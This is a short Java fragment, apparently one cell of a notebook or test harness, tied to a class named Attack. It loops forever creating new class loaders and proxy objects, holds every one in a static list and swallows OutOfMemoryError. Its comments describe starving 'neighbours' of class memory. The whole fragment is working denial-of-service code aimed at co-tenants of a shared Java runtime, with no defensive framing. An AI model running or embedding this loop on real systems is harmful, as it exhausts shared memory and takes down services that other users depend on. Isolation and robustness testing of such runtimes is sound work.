// wins: neighbours
// not behind: whether the others still need room for classes hangs on what was loaded before
while (true) {
  try {
    var loader = new ClassLoader(Attack.class.getClassLoader()) { };
    Hold.ALL.add(java.lang.reflect.Proxy.newProxyInstance(loader, new Class<?>[] {Runnable.class, Comparable.class}, (p, m, a) -> null));
  } catch (OutOfMemoryError e) {
    // Hold on to it.
  }
}
// ---- cell
class Hold { static final List<Object> ALL = new ArrayList<>(); }
